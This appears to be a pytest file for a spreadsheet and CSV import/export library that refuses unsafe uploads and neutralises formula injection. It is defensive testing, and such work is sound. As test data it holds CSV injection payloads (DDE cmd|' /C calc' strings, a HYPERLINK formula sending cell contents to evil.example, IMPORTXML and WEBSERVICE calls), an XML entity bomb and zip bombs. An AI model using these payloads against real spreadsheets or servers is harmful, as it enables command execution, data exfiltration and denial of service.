"""Tables in and out: everything a file can hide is refused by its place; nothing written ever runs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.datetime import CALENDAR_MAC_1904

import hermanar
from hermanar.foundation.tables import (
    Column,
    RefusedTableError,
    csv_cells,
    csv_chunks,
    csv_column,
    csv_lines,
    inert,
    read_table,
    writing,
    xlsx_chunks,
)
from tests.open_data.world import workbook

PLAIN = b"a,b\n1,2\n"


def zipped(**parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def rebuilt(data, *, add=None, replace=None):
    """Return a workbook with parts added, or texts in its parts replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            for part, before, after in replace or ():
                if name == part:
                    assert before in content
                    content = content.replace(before, after)
            new.writestr(name, content)
        for name, content in (add or {}).items():
            new.writestr(name, content)
    return buffer.getvalue()


def faults_of(data, name, **options):
    with pytest.raises(RefusedTableError) as caught:
        read_table(data, name=name, **options)
    return caught.value.faults


BOOK = workbook(["x", "y"], headings=["a", "b"])
BOMB = b'<!DOCTYPE z [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'


MERGED = b'</sheetData><mergeCells><mergeCell ref="A%b"/></mergeCells>' % (b"9" * 4_301)


def hide_row(_book, sheet):
    sheet.row_dimensions[2].hidden = True


def hide_column(_book, sheet):
    sheet.column_dimensions["B"].hidden = True


def hide_sheet(book, _sheet):
    book.create_sheet("secreta")["A1"] = "x"
    book["secreta"].sheet_state = "hidden"


# ruff: noqa: E501  a table of cases
REFUSED = [
    ("nothing", b"", "a.csv", "empty", 0, ""),
    ("blanks", b" \n \n", "a.csv", "empty", 0, ""),
    ("an extension nobody reads", PLAIN, "a.ods", "extension", 0, ""),
    ("a PDF named CSV", b"%PDF-1.7", "a.csv", "not_a_table", 0, ""),
    ("an old or protected workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.xlsx", "not_a_table", 0, ""),
    ("a workbook named CSV", BOOK, "a.csv", "not_what_it_says", 0, ""),
    ("a CSV named XLSX", PLAIN, "a.xlsx", "not_what_it_says", 0, ""),
    ("UTF-16", "a,b\n".encode("utf-16"), "a.csv", "utf16", 0, ""),
    ("a NUL byte", b"a,b\n1,\x00\n", "a.csv", "binary", 2, ""),
    ("bytes of no code page", b"a,b\n1,\x81\n", "a.csv", "encoding", 2, "B"),
    ("one byte of Windows in UTF-8", "ciudad,país\nLeón,México\n".encode() + b"Le\xf3n,x\n", "a.csv", "encoding", 3, "A"),
    ("half of each", "a,b\nLeón,x\n".encode() + b"x,Le\xf3n\n", "a.csv", "encoding", 3, "B"),
    ("a letter cut in two", "a,b\nMéxico,Leó".encode()[:-1], "a.csv", "encoding", 2, "B"),
    ("accents of DOS", "a,b\nLeón,Querétaro\n".encode("cp850"), "a.csv", "encoding", 2, "A"),
    ("accents of a Mac", "a,b\nLeón,Querétaro\n".encode("mac_roman"), "a.csv", "encoding", 2, "A"),
    ("a quote that never closes", b'a,b\n1,2\n"3,4\n', "a.csv", "quotes", 3, ""),
    ("a cell beyond the headings", b"a,b\n1,2,3\n", "a.csv", "no_heading", 2, "C"),
    ("a heading twice", b"a,A\n1,2\n", "a.csv", "repeated_heading", 1, "B"),
    ("a formula", workbook(["=1+1", "y"], headings=["a", "b"]), "a.xlsx", "formula", 2, "A"),
    ("merged cells", workbook(["x", "y"], headings=["a", "b"], change=lambda _b, s: s.merge_cells("A3:B4")), "a.xlsx", "merged", 3, "A"),
    ("a hidden row", workbook(["x", "y"], headings=["a", "b"], change=hide_row), "a.xlsx", "hidden_row", 2, ""),
    ("a hidden column", workbook(["x", "y"], headings=["a", "b"], change=hide_column), "a.xlsx", "hidden_column", 0, "B"),
    ("a hidden sheet", workbook(["x", "y"], headings=["a", "b"], change=hide_sheet), "a.xlsx", "hidden_sheet", 0, ""),
    ("an error value", workbook(["#N/A", "y"], headings=["a", "b"]), "a.xlsx", "error_value", 2, "A"),
    ("a document", zipped(**{"word/document.xml": "<x/>", "[Content_Types].xml": "<x/>"}), "a.xlsx", "not_a_workbook", 0, ""),
    ("half a workbook", BOOK[:-200], "a.xlsx", "damaged", 0, ""),
    ("macros", rebuilt(BOOK, add={"xl/vbaProject.bin": b"x"}), "a.xlsx", "active_content", 0, ""),
    ("a link to another book", rebuilt(BOOK, add={"xl/externalLinks/externalLink1.xml": b"<x/>"}), "a.xlsx", "active_content", 0, ""),
    (
        "an external relationship",
        rebuilt(BOOK, add={"xl/worksheets/_rels/x.rels": b'<R><Relationship TargetMode="External" Type="x/oleObject"/></R>'}),
        "a.xlsx", "external", 0, "",
    ),
    (
        "an entity bomb",
        rebuilt(BOOK, replace=[("xl/workbook.xml", b"<workbook", BOMB + b"<workbook")]), "a.xlsx", "entities", 0, "",
    ),
    ("a zip bomb by ratio", rebuilt(BOOK, add={"xl/media/x.bin": b"\0" * 30_000_000}), "a.xlsx", "zip_ratio", 0, ""),
    ("a zip bomb by size", rebuilt(BOOK, add={f"xl/media/{n}": b"\0" * 11_000_000 for n in range(5)}), "a.xlsx", "zip_size", 0, ""),
    ("a zip of many parts", rebuilt(BOOK, add={f"xl/media/{n}": b"" for n in range(2_001)}), "a.xlsx", "zip_parts", 0, ""),
    (
        "merged cells of no row",
        rebuilt(BOOK, replace=[("xl/worksheets/sheet1.xml", b"</sheetData>", MERGED)]), "a.xlsx", "merged", 0, "",
    ),
    (
        "a cell far to the right",
        rebuilt(BOOK, replace=[("xl/worksheets/sheet1.xml", b'r="B2"', b'r="XFD2"')]), "a.xlsx", "too_wide", 0, "",
    ),
]  # fmt: skip


@pytest.mark.row(10, 11)
@pytest.mark.parametrize(
    ("data", "name", "code", "row", "letter"), [case[1:] for case in REFUSED], ids=[c[0] for c in REFUSED]
)
def test_what_cannot_be_trusted_is_refused_by_its_place(data, name, code, row, letter):
    fault = faults_of(data, name)[0]
    assert (fault.code, fault.row, fault.letter) == (code, row, letter)
    assert str(fault)


@pytest.mark.row(10)
def test_an_entity_bomb_in_a_sheet_is_refused_before_it_grows():
    data = rebuilt(BOOK, replace=[("xl/worksheets/sheet1.xml", b"<worksheet", BOMB + b"<worksheet")])
    assert faults_of(data, "a.xlsx")[0].code in {"entities", "damaged"}


def test_a_sheet_that_is_not_there_names_those_that_are():
    fault = faults_of(BOOK, "a.xlsx", sheet="otra")[0]
    assert fault.code == "no_such_sheet"
    assert "acuerdos" in str(fault)


def test_a_bad_byte_is_shown_with_what_it_probably_means():
    data = "ciudad,país\nQuerétaro,México\n".encode() + b"Le\xf3n,x\n"
    (fault,) = faults_of(data, "a.csv")
    assert (fault.heading, fault.value) == ("ciudad", "Le\\xf3n")
    assert "\\xf3 no es UTF-8" in str(fault)
    assert "¿Dice «León»?" in str(fault)
    assert "CSV UTF-8" in str(fault)


# What is written, and whether it is read as Windows' code page; with anything else odd it is refused.
WINDOWS = [
    ("León", True),
    ("México–Toledo, “x” de l’Hospitalet; 3.ª edición", True),
    ("Žilina y Košice", True),
    ("CAFÉ” y León", True),  # two of its bytes happen to be UTF-8
    ("GuanajuatÃ³ y León, Querétaro, Mazatlán", False),  # one place is UTF-8 read as Windows'
    ("Le¢n", False),
    ("Jos‚", False),
]


@pytest.mark.parametrize(("text", "is_taken"), WINDOWS)
def test_windows_text_is_taken_only_where_it_reads_like_words(text, is_taken):
    data = f'a\n"{text}"\n'.encode("cp1252")
    if is_taken:
        table = read_table(data, name="a.csv")
        assert table.rows == [(2, [text])]
        assert "Windows-1252" in str(table.notices[0])
    else:
        assert {fault.code for fault in faults_of(data, "a.csv")} == {"encoding"}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_csv_is_read_as_people_save_it(encoding, separator):
    text = f'año{separator}"b\nc"\r\n"ñu{separator}x"{separator}2\r\n'
    table = read_table(text.encode(encoding), name="a.csv")
    assert table.header == ["año", "b\nc"]
    assert table.rows == [(2, [f"ñu{separator}x", "2"])]
    told = " ".join(str(notice) for notice in table.notices)
    assert ("Windows-1252" in told) == (encoding == "cp1252")


def test_empty_rows_are_passed_over_and_numbers_stay():
    table = read_table(b"\n\na,b\n\n1,2\n,\n3\n", name="a.csv")
    assert (table.header_row, table.rows) == (3, [(5, ["1", "2"]), (7, ["3", None])])


@pytest.mark.parametrize("is_1904", [False, True])
def test_dates_of_both_epochs_are_the_same_day(is_1904):
    day = dt.date(1969, 9, 16)

    def epoch(book, sheet):
        if is_1904:
            book.epoch = CALENDAR_MAC_1904
        sheet["A2"] = day

    table = read_table(workbook(["", "x"], headings=["a", "b"], change=epoch), name="a.xlsx")
    assert table.rows == [(2, [day, "x"])]
    assert any("1904" in str(notice) for notice in table.notices) == is_1904


def test_the_sheet_that_is_read_is_named():
    def more(book, _sheet):
        book.create_sheet("otra", 0)["A1"] = "x"

    table = read_table(
        workbook(["x", "y"], headings=["a", "b"], change=more), name="a.xlsx", preferred_sheet="acuerdos"
    )
    assert table.sheet == "acuerdos"
    assert "otra" in " ".join(str(notice) for notice in table.notices)


DANGEROUS = st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝", "＋"]), st.text()).map("".join)
TEXTS = st.one_of(DANGEROUS, st.text())


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=20))
@pytest.mark.row(14)
def test_no_cell_written_ever_runs(rows):
    columns = [Column("uno", lambda row: row[0]), Column("dos", lambda row: row[1])]
    readable = [[cell.encode(errors="replace").decode() for cell in row] for row in rows]
    by_column = map(",".join, zip(*map(csv_column, zip(*readable, strict=True)), strict=True))
    files = [csv_lines(["uno", "dos"], [lines]) for lines in (by_column, map(csv_cells, readable))]
    for data in map(b"".join, (csv_chunks(columns, readable), *files)):
        written = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert not [cell for row in written for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert written[1:] == [[inert(cell.replace("\x00", "")) for cell in row] for row in readable]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_chunks(columns, rows, sheet="x"))))
    kinds = {cell.data_type for row in book.active.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s"}


RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
COMMANDS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"clic")', "SUM(A1:A9)*cmd|'/C calc'!A0", "DDE(x)",
    'IMPORTXML("http://evil.example","//a")', "WEBSERVICE(A1)", "2+5+cmd|'/C notepad'!A1", "1,2", '"1"', "'1", "", "1\n=2",
)  # fmt: skip


def texts_that_would_run(count):
    """Return so many texts, each beginning as a formula does, no two alike."""
    chance = random.Random(14)  # noqa: S311  the same texts each time
    for number in range(count):
        yield f"{RUNS[number % len(RUNS)]}{chance.choice(('', ' ', '=', '@', '+-'))}{chance.choice(COMMANDS)}{number}"


@pytest.mark.row(14)
def test_ten_thousand_texts_that_would_run_are_inert(figure):
    texts = list(texts_that_would_run(10_000))
    assert len(set(texts)) == 10_000
    column = [Column("=texto", lambda text: text)]
    # Each text a column of its own: a column is looked through as a whole, and nothing else may give it away.
    by_column = csv_lines(["=texto"], [[cell for text in texts for cell in csv_column([text])]])
    by_cell = csv_lines(["=texto"], [[csv_cells([text]) for text in texts]])
    for data in map(b"".join, (csv_chunks(column, texts), by_column, by_cell)):
        heading, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        assert heading == ["'=texto"]
        assert len(rows) == len(texts)
        assert all(row == [f"'{text}"] for row, text in zip(rows, texts, strict=True))
    made = b"".join(xlsx_chunks(column, texts, sheet="x"))
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert len(re.findall(r'<c t="inlineStr" s="1">', sheet)) == len(texts)  # text, and text still when it is edited
    assert 'quotePrefix="1"' in re.findall(r"<xf [^>]*>", styles.partition("<cellXfs")[2])[1]
    figure(f"{len(texts)} texts in four writings, 0 that a spreadsheet would run")


@pytest.mark.row(14)
def test_nobody_else_writes_a_table():
    """Whoever wrote one past the writers of this room would have to make its cells inert again."""
    package = Path(hermanar.__file__).parent
    writes = re.compile(r"csv\.(writer|DictWriter)|openpyxl\.Workbook\(|\.writerow")
    found = {path.relative_to(package).as_posix() for path in package.rglob("*.py") if writes.search(path.read_text())}
    # The other writes the empty file that a city fills in: words of the house, and nobody's.
    assert found == {"foundation/tables/writing.py", "catalogue/template.py"}


def test_numbers_stay_numbers_and_texts_come_back():
    columns = [Column("a", lambda row: row[0]), Column("b", lambda row: row[1])]
    data = b"".join(xlsx_chunks(columns, [(-3.5, "=1+1"), (None, dt.date(2020, 1, 2))], sheet="x"))
    table = read_table(data, name="a.xlsx")
    assert table.rows == [(2, [-3.5, "=1+1"]), (3, [None, "2020-01-02"])]


def test_files_leave_while_their_rows_are_read():
    def endless():
        number = 0
        while True:
            number += 1
            yield ("texto" * 10, number)

    columns = [Column("a", lambda row: row[0]), Column("b", lambda row: row[1])]
    for chunks in (csv_chunks(columns, endless()), xlsx_chunks(columns, endless(), sheet="x")):
        assert all(len(next(chunks)) < 200_000 for _turn in range(20))


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400), st.sampled_from(["a.csv", "a.xlsx"]))
def test_any_bytes_are_read_or_refused(data, name):
    try:
        read_table(data, name=name)
    except RefusedTableError as refusal:
        told = str(refusal)
    else:
        told = "read"
    assert told


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_a_damaged_workbook_is_read_or_refused(data):
    position = data.draw(st.integers(0, len(BOOK) - 1))
    damaged = BOOK[:position] + bytes([data.draw(st.integers(0, 255))]) + BOOK[position + 1 :]
    try:
        read_table(damaged, name="a.xlsx")
    except RefusedTableError as refusal:
        told = str(refusal)
    else:
        told = "read"
    assert told


def test_a_sheet_that_is_full_says_where_the_rest_is(monkeypatch):
    monkeypatch.setattr(writing, "MOST_SHEET_ROWS", 5)
    columns = [Column("número", lambda row: row)]
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_chunks(columns, range(100), sheet="x"))))
    shown = [row[0] for row in book.active.iter_rows(values_only=True)]
    assert shown == ["número", 0, 1, 2, "Una hoja no admite más filas: el resto está en el CSV."]
